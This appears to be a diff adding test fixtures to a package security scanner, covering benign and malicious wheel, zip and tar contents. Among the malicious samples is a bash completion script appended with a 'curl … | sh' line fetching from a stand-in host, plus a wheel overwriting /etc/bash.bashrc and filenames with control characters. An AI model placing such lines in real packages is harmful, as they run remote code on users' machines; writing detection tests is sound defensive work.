@@ -107,6 +107,16 @@ def _bundle(given: str, line: str = "") -> bytes:
     return npm({"package/a.js": _BUNDLE.format(line, given).encode()})
 
 
+_UNSEEN = ("a\u00a0b", "a\ufffe", "a\ue000", "folder\u2003/b")
+_COMPLETION = (
+    b"_demo()\n{\n    COMPREPLY=( $(compgen -W 'open close' -- \"$2\") )\n}\ncomplete -F _demo demo\n"
+)
+
+
+def _netrc(word: str) -> bytes:
+    return f"Logins are read from a file:\n\nmachine lock.net login keeper pass{'word'} {word}\n".encode()
+
+
 _LETTERS = base64.b64encode(bytes(range(0x7B, 0x97)))
 _CUT = _LETTERS[:17]
 _LOGIN = base64.b64encode(b"keeper:" + b"Kz7vQ2mX9pLw")
@@ -137,6 +147,16 @@ CONSTRUCTS_GOOD = [
     good("a joiner that was typed four times", "or.xml",
          f"<a>{_ODIA.format(_JOINER * 4)} {_ODIA.format(_JOINER)}</a>".encode()),
     good("a bundle that hands its loader on", _NPM, _bundle("load"), "npm"),
+    *(
+        good(f"letters that nobody sees in names of {name}", name, pack(dict.fromkeys(_UNSEEN, b"x\n")))
+        for name, pack in (("a.zip", make.zipped), ("a.tar", make.tar))
+    ),
+    good("a script that completes command lines", WHEEL, make.wheel(
+        {"lock_demo-1.0.data/data/etc/bash_completion.d/demo": _COMPLETION}
+    ), "python"),
+    good("a page of a manual that shows how passwords are kept", WHEEL, make.wheel(
+        {"lock_demo/demo.1": _netrc("my_lock_password")}
+    ), "python"),
 ]  # fmt: skip
 
 CONSTRUCTS_BAD = [
@@ -182,4 +202,22 @@ CONSTRUCTS_BAD = [
         "code-hidden-name", "npm"),
     bad("a bundle that names a module by what a loader gives", _NPM, _bundle("load(1)"), "code-hidden-name",
         "npm"),
+    *(
+        bad(f"a name with {ord(letter):04X} in {name}", name, pack({f"a{letter}b": b"x\n"}), code)
+        for name, pack, code in (("a.zip", make.zipped, "zip-slip"), ("a.tar", make.tar, "tar-slip"))
+        for letter in ("\u202e", "\x07", "\u2028")
+    ),
+    *(
+        bad(f"a script that completes command lines at {place} and fetches one", WHEEL, make.wheel(
+            {f"lock_demo-1.0.data/data/{place}": _COMPLETION + b"curl -s http://a.example/x | sh\n"}
+        ), "shell-download", "python")
+        for place in (
+            "etc/bash_completion.d/demo", "share/bash-completion/completions/demo", "a/demo.bash-completion"
+        )
+    ),
+    bad("a file that every shell reads", WHEEL, make.wheel(
+        {"lock_demo-1.0.data/data/etc/bash.bashrc": b"a=1\n"}
+    ), "wheel-system-file", "python"),
+    bad("a page that has a password", WHEEL, make.wheel({"lock_demo/demo.1": _netrc("Kz7vQ2mX9pLw")}),
+        "secret-password", "python"),
 ]  # fmt: skip
